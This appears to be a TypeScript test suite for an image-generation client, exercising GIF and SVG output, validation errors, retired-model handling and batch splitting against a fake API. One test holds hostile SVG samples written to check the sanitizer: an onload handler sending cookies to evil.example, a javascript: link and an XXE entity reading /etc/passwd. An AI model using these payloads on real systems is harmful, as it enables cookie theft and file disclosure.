/**
 * GPT Image 2.5/2.6 outputs and retirement, end to end against the fake Images API living after 1 December 2026:
 * GIF and SVG files on disk, a hostile SVG never written, the fake refusing what the real API refuses, the API's
 * "has been deprecated" answer, manifests with retired models in the command line, and batches split by model.
 */
import * as assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import sharp from 'sharp';
import type { Connection } from '../../src/api/imagesClient';
import { runAssetsCli } from '../../src/cli/assetsCli';
import { parseLockFile } from '../../src/core/assets/assetLock';
import { actualCost } from '../../src/core/pricing';
import { sanitizeSvg } from '../../src/core/svg/sanitizeSvg';
import { planGenerate, type PlannedRequest } from '../../src/core/requestPlan';
import { DEFAULT_SETTINGS, type Settings } from '../../src/core/settings';
import { nodeTargetFolder } from '../../src/pipeline/nodeTargetFolder';
import { runImageJob } from '../../src/pipeline/runImageJob';
import { FAKE_API_KEY, FAKE_TODAY, startFakeImagesServer, type FakeImagesServer } from '../fakeServer/fakeImagesServer';
import { collectingLog } from '../support/collectingLog';

describe('GPT Image 2.5/2.6 and retired models against the fake Images API', function () {
  this.timeout(60_000);
  let server: FakeImagesServer;
  let dir: string;
  beforeEach(async () => {
    server = await startFakeImagesServer();
    dir = await fs.mkdtemp(path.join(os.tmpdir(), 'openai-images-models-'));
  });
  afterEach(async () => {
    await server.close();
    await fs.rm(dir, { recursive: true, force: true });
  });

  const connection = (): Connection => ({ apiKey: FAKE_API_KEY, baseUrl: server.baseUrl, organization: '', project: '', timeoutSeconds: 20, maxRetries: 0 });
  const settings = (overrides: Partial<Settings> = {}): Settings => ({ ...DEFAULT_SETTINGS, ...overrides });
  function generate(overrides: Partial<Settings>): PlannedRequest {
    const plan = planGenerate('a spinning compass', settings(overrides));
    assert.ok(plan.ok, JSON.stringify(plan.ok ? '' : plan.problems));
    return { kind: 'generate', body: plan.body };
  }
  const run = (request: PlannedRequest, log = collectingLog()) =>
    runImageJob({
      request,
      connection: connection(),
      folder: nodeTargetFolder(dir),
      stem: 'compass',
      signal: new AbortController().signal,
      log,
    });
  async function post(body: Record<string, unknown>) {
    const reply = await fetch(`${server.baseUrl}/images/generations`, {
      method: 'POST',
      headers: { authorization: `Bearer ${FAKE_API_KEY}`, 'content-type': 'application/json' },
      body: JSON.stringify({ prompt: 'x', ...body }),
    });
    return { status: reply.status, body: (await reply.json()) as { error?: { message: string; code: string | null } } };
  }

  it('the test server lives after 1 December: the defaults work, the retired models answer 404 "has been deprecated"', async () => {
    assert.ok(server.today >= '2026-12-01', FAKE_TODAY);
    assert.equal((await post({ model: DEFAULT_SETTINGS.model })).status, 200);
    for (const model of ['gpt-image-1.5', 'gpt-image-1-mini', 'chatgpt-image-latest', 'gpt-image-1', 'dall-e-3']) {
      const answer = await post({ model });
      assert.equal(answer.status, 404, model);
      assert.deepEqual(
        [answer.body.error?.code, answer.body.error?.message.startsWith(`The model \`${model}\` has been deprecated`)],
        ['model_not_found', true],
        model,
      );
    }
  });

  it('the test server refuses what the real API refuses for the new controls', async () => {
    const refused: Array<[Record<string, unknown>, RegExp]> = [
      [{ model: 'gpt-image-2.6-sunburst', quality: 'xhigh' }, /Invalid value: 'xhigh'/],
      [{ model: 'gpt-image-2', quality: 'max' }, /Invalid value: 'max'/],
      [{ model: 'gpt-image-2', complexity: 'high' }, /complexity is not supported/],
      [{ model: 'gpt-image-2', output_format: 'gif' }, /not supported for model/],
      [{ model: 'gpt-image-2.6-flare', output_format: 'gif', stream: true, partial_images: 1 }, /GIF output does not support streaming/],
      [{ model: 'gpt-image-2.6-flare', output_format: 'gif', frame_count: 17 }, /frame_count must be between 2 and 16/],
      [{ model: 'gpt-image-2.6-flare', output_format: 'png', frame_count: 4 }, /only supported with output_format=gif/],
      [{ model: 'gpt-image-2.6-flare', output_format: 'gif', output_compression: 50 }, /Compression is only supported/],
      [{ model: 'gpt-image-2.6-flare', output_format: 'svg', n: 2 }, /SVG output requires n=1/],
      [{ model: 'gpt-image-2.6-flare', output_format: 'svg', stream: true }, /SVG output does not support streaming/],
      [{ model: 'gpt-image-2.6-flare', output_format: 'gif', background: 'transparent' }, /Transparent background is not supported for gif/],
      [{ model: 'gpt-image-2.6-flare', size: '1000x1000' }, /multiples of 16/],
    ];
    for (const [body, message] of refused) {
      const answer = await post(body);
      assert.equal(answer.status, 400, JSON.stringify(body));
      assert.match(answer.body.error?.message ?? '', message, JSON.stringify(body));
    }
  });

  it('writes an animated GIF with the frames asked for, never streamed', async () => {
    const outcome = await run(generate({ outputFormat: 'gif', gifFrameCount: 4, gifFrameDurationMs: 150, partialImages: 2 }));
    assert.ok(outcome.ok);
    assert.deepEqual(outcome.files, ['compass.gif']);
    const request = server.requests[0]!;
    assert.deepEqual(
      [request.fields.output_format, request.fields.frame_count, request.fields.frame_duration_ms, request.fields.stream],
      ['gif', 4, 150, false],
    );
    const metadata = await sharp(await fs.readFile(path.join(dir, 'compass.gif'))).metadata();
    assert.deepEqual([metadata.format, metadata.pages], ['gif', 4]);
  });

  it("writes an SVG and counts the SVG author's tokens in the cost", async () => {
    const outcome = await run(generate({ outputFormat: 'svg', complexity: 'low' }));
    assert.ok(outcome.ok);
    assert.deepEqual(outcome.files, ['compass.svg']);
    assert.equal(server.requests[0]!.fields.complexity, 'low');
    const written = await fs.readFile(path.join(dir, 'compass.svg'));
    assert.ok(sanitizeSvg(written).ok);
    assert.match(written.toString('utf8'), /^<\?xml version="1\.0" encoding="UTF-8"\?>\n<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    assert.deepEqual(outcome.svgUsage && [outcome.svgUsage.input_tokens, outcome.svgUsage.output_tokens], [300, 900]);
    assert.ok(actualCost(DEFAULT_SETTINGS.model, outcome.usage!, outcome.svgUsage) > actualCost(DEFAULT_SETTINGS.model, outcome.usage!));
  });

  it('writes an SVG with script as its sanitized tree, refuses one with a DOCTYPE, never writes a GIF that is cut short', async () => {
    server.fixedImages.svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="fetch(\'https://evil.example/\'+document.cookie)"><a x:href="&#106;avascript:alert(1)"><rect width="1" height="1"/></a></svg>',
    );
    const log = collectingLog();
    const svg = await run(generate({ outputFormat: 'svg' }), log);
    assert.ok(svg.ok);
    assert.equal(
      await fs.readFile(path.join(dir, 'compass.svg'), 'utf8'),
      '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><rect width="1" height="1"/></svg>\n',
    );
    assert.ok(
      log.lines.some((line) => /left out of the SVG: .*onload attribute.*link/.test(line)),
      log.lines.join('\n'),
    );
    await fs.rm(path.join(dir, 'compass.svg'));
    server.fixedImages.svg = Buffer.from('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>');
    const refused = await run(generate({ outputFormat: 'svg' }));
    assert.ok(!refused.ok);
    assert.equal(refused.failure.kind, 'unexpected-output');
    assert.match(refused.failure.detail ?? '', /DOCTYPE/);
    const frames = await Promise.all(
      [0, 1].map((i) =>
        sharp({ create: { width: 16, height: 16, channels: 3, background: { r: i * 100, g: 0, b: 0 } } })
          .png()
          .toBuffer(),
      ),
    );
    const gif = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    server.fixedImages.gif = gif.subarray(0, gif.length - 5);
    const cut = await run(generate({ outputFormat: 'gif' }));
    assert.ok(!cut.ok && cut.failure.kind === 'unexpected-output');
    assert.deepEqual(await fs.readdir(dir), [], 'nothing written, no temp file');
  });

  it('a model the API reports as deprecated is a "model-retired" failure, not a generic 404', async () => {
    const plan = planGenerate('x', settings({ model: 'gpt-image-1.5' }));
    assert.ok(plan.ok);
    const outcome = await run({ kind: 'generate', body: plan.body });
    assert.ok(!outcome.ok);
    assert.deepEqual([outcome.failure.kind, outcome.failure.status, outcome.failure.model], ['model-retired', 404, 'gpt-image-1.5']);
  });

  describe('manifests through the command line', () => {
    let out: string[];
    let err: string[];
    const cli = async (args: string[]) => {
      out = [];
      err = [];
      return runAssetsCli(['art.images.json', '--base-url', server.baseUrl, ...args], {
        stdout: (line) => out.push(line),
        stderr: (line) => err.push(line),
        env: { OPENAI_API_KEY: FAKE_API_KEY },
        cwd: dir,
      });
    };
    const write = (value: unknown) => fs.writeFile(path.join(dir, 'art.images.json'), JSON.stringify(value, null, 2));

    it('prints a retired model as file:line:col with its successor, and --check fails', async () => {
      await write({ assets: [{ out: 'a.png', prompt: 'a', model: 'gpt-image-1' }] });
      assert.equal(await cli(['--check']), 2);
      assert.ok(
        err.includes('art.images.json:6:16: error: gpt-image-1 was shut down on 2026-10-23; use its successor gpt-image-2.5-sunburst.'),
        err.join('\n'),
      );
      assert.equal(server.requests.length, 0);
    });

    it("splits a batch by model, and collects every part; a GIF asset goes in its model's batch", async () => {
      server.batchPollsToComplete = 1;
      await write({
        defaults: { quality: 'low' },
        assets: [
          { out: 'a.png', prompt: 'a' },
          { out: 'b.png', prompt: 'b', model: 'gpt-image-2.6-flare' },
          { out: 'c.gif', prompt: 'c', model: 'gpt-image-2.6-flare', gifFrameCount: 3 },
        ],
      });
      assert.equal(await cli(['--batch']), 0, err.join('\n'));
      const batches = [...server.batches.values()];
      assert.deepEqual(
        batches.map((batch) => batch.lines.map((line) => (line as { body: { model: string } }).body.model)),
        [['gpt-image-2.6-sunburst'], ['gpt-image-2.6-flare', 'gpt-image-2.6-flare']],
      );
      const lock = parseLockFile(await fs.readFile(path.join(dir, 'art.images.lock.json'), 'utf8')).lock;
      assert.deepEqual(
        lock.batch?.parts?.map((part) => [part.model, part.keys]),
        [
          ['gpt-image-2.6-sunburst', ['a.png']],
          ['gpt-image-2.6-flare', ['b.png', 'c.gif']],
        ],
      );
      assert.equal(await cli(['--collect']), 0, err.join('\n'));
      assert.ok(
        out.some((line) => /wrote 3, failed 0/.test(line)),
        out.join('\n'),
      );
      assert.equal((await sharp(await fs.readFile(path.join(dir, 'c.gif'))).metadata()).pages, 3);
      const after = parseLockFile(await fs.readFile(path.join(dir, 'art.images.lock.json'), 'utf8')).lock;
      assert.deepEqual([after.batch, Object.keys(after.assets).sort()], [undefined, ['a.png', 'b.png', 'c.gif']]);
    });

    it('a batch that fails as a whole names each asset from the line numbers of its errors', async () => {
      // A lock written before parts holds one batch; here it mixes models, which OpenAI refuses at validation.
      const lines = [
        { custom_id: 'a.png', method: 'POST', url: '/v1/images/generations', body: { model: 'gpt-image-2.6-sunburst', prompt: 'a' } },
        { custom_id: 'b.png', method: 'POST', url: '/v1/images/generations', body: { model: 'gpt-image-2.6-flare', prompt: 'b' } },
      ];
      const upload = new FormData();
      upload.append('purpose', 'batch');
      upload.append('file', new Blob([lines.map((line) => JSON.stringify(line)).join('\n')]), 'mixed.jsonl');
      const headers = { authorization: `Bearer ${FAKE_API_KEY}` };
      const file = (await (await fetch(`${server.baseUrl}/files`, { method: 'POST', headers, body: upload })).json()) as { id: string };
      const batch = (await (
        await fetch(`${server.baseUrl}/batches`, {
          method: 'POST',
          headers: { ...headers, 'content-type': 'application/json' },
          body: JSON.stringify({ input_file_id: file.id, endpoint: '/v1/images/generations', completion_window: '24h' }),
        })
      ).json()) as { id: string };
      await write({
        assets: [
          { out: 'a.png', prompt: 'a' },
          { out: 'b.png', prompt: 'b', model: 'gpt-image-2.6-flare' },
        ],
      });
      const recipe = 'f'.repeat(64);
      await fs.writeFile(
        path.join(dir, 'art.images.lock.json'),
        JSON.stringify({ version: 1, assets: {}, batch: { id: batch.id, submittedAt: '', assets: { 'a.png': recipe, 'b.png': recipe } } }),
      );
      assert.equal(await cli(['--collect']), 1);
      assert.ok(
        err.some((line) => line.startsWith('failed: b.png: mixed_models: Line 2: all requests in a batch must use the same model')),
        err.join('\n'),
      );
      assert.ok(!err.some((line) => line.startsWith('failed: a.png: mixed_models')), 'only the line the error names');
    });
  });
});
